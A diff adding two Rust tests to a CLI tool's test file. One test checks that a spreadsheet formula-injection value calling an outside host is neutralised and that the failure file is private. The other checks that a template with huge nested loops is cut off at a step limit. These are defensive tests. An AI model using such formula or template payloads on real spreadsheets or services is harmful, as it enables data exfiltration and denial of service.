@@ -1,9 +1,13 @@
-//! Files that hold what is nobody else's: their modes.
+//! Files that hold what is nobody else's: their modes, and what a spreadsheet makes of them; and templates that hardly end.
 
 use std::fs::Permissions;
 use std::os::unix::fs::PermissionsExt;
+use std::time::{Duration, Instant};
 
-use crate::process::{Process, Run, ready};
+use serde_json::json;
+
+use crate::mailer::section;
+use crate::process::{Process, Run, ends, ready, says};
 use crate::world::{Plan, World};
 
 /// A secret in a file of this mode for each key that a worker takes from one.
@@ -54,4 +58,48 @@ async fn every_secret_file_that_others_can_read_is_warned_of_at_the_start_and_by
             assert_eq!(is_warned, warned, "{key} {mode:o}: {out}");
         }
     }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_file_of_those_that_failed_is_private_has_no_formula_and_is_read_as_it_was() {
+    let mut world = Plan::new().start().await;
+    let refuses = json!({"status": 400, "always": true, "user": "refused"});
+    world.main().add_fault(serde_json::from_value(refuses).unwrap());
+    let title = "=HYPERLINK(\"http://elsewhere/\"&A1)";
+    let run = Run::of(&world, &["enqueue", "agents.csv", "--batch", "one", "--wait", "--failed", "failed.csv"]);
+    let csv = "userId,email,title,department\nrefused,@refused@example.com,\"=HYPERLINK(\"\"http://elsewhere/\"\"&A1)\",'+49 quoted\n";
+    run.file("agents.csv", &csv.replace("@refused@", "refused@"));
+    let failed = run.file("failed.csv", "what stood there before");
+    std::fs::set_permissions(&failed, Permissions::from_mode(0o666)).unwrap();
+    let mut process = run.start();
+    assert_eq!(process.ended().await, 1, "{}", process.stderr());
+    let written = std::fs::read_to_string(&failed).unwrap();
+    assert_eq!(std::fs::metadata(&failed).unwrap().permissions().mode() & 0o777, 0o600);
+    let mut rows = csv::Reader::from_reader(written.as_bytes());
+    let row = rows.records().next().unwrap().unwrap();
+    assert_eq!((&row[0], &row[2], &row[3]), ("refused", format!("'{title}").as_str(), "'+49 quoted"), "{written}");
+
+    world.stop_worker().await.unwrap();
+    let again = Run::of(&world, &["enqueue", "again.csv", "--batch", "two"]);
+    again.file("again.csv", &written);
+    let (code, _, said) = again.end().await;
+    assert_eq!(code, 0, "{said}");
+    let sent = world.drained("resets.main.bulk").await;
+    assert_eq!(sent.len(), 1);
+    assert_eq!(sent[0].json()["attributes"], json!({"title": title, "department": "+49 quoted"}));
+}
+
+#[tokio::test]
+async fn a_template_that_hardly_ends_ends_the_preview_with_its_name() {
+    let began = Instant::now();
+    let run =
+        Run::new(&["mailer", "--preview", "samples"]).config(&section(25)).config("[mailer]\ntemplates = \"mails\"\n");
+    let folder = run.file("x", "").with_file_name("mails");
+    std::fs::create_dir(&folder).unwrap();
+    std::fs::write(folder.join("subject.txt"), "Hello").unwrap();
+    let body = "{% for a in range(90000) %}{% for b in range(90000) %}{% for c in range(90000) %}{% endfor %}{% endfor %}{% endfor %}{{ password }}";
+    std::fs::write(folder.join("body.txt"), body).unwrap();
+    let said = ends(run, 2, &["body.txt", "steps"]).await;
+    says(&said, &["it takes more than 100000 steps"]);
+    assert!(began.elapsed() < Duration::from_secs(30), "{:?}", began.elapsed());
 }
